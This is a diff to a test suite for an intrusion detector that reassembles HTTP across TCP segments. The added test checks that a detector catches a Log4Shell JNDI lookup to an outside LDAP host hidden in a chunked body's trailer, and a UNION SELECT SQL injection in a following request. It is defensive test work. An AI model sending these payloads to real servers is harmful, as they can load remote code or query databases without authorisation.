@@ -740,6 +740,15 @@ describe('web attacks across TCP segments', () => {
     }
   });
 
+  it("inspects a chunked body's trailer lines, which servers hand to the application, and reads the request after them", () => {
+    const head = 'POST /upload HTTP/1.1\r\nHost: shop.example\r\nTransfer-Encoding: chunked\r\nTrailer: X-Api\r\nContent-Type: text/plain\r\n\r\n';
+    const c = new Conn({ t0: T0 }).handshake().send(`${head}5\r\nhello\r\n0\r\nX-Api: `).send('${jndi:ldap://198.51.100.7/a}\r\n\r\n').serverAck().reply(OK).send(get('/item?id=5+UNION+SELECT+1,2--')).serverAck().reply(OK).close();
+    assert.deepEqual(seen(run(c.frames).alerts), [
+      [LOG4SHELL, 5, 'header', 'x-api', CLIENT],
+      [SQLI, 8, 'query', 'id', CLIENT],
+    ]);
+  });
+
   it('decodes a chunked body whose attack straddles two chunks and two segments', () => {
     const head = 'POST /login HTTP/1.1\r\nHost: shop.example\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n';
     const c = new Conn({ t0: T0 }).handshake().send(`${head}b\r\nuser=admin%\r\n`).send('5\r\n27--&\r\n6\r\npass=x\r\n0\r\n\r\n').serverAck().reply(OK).close();
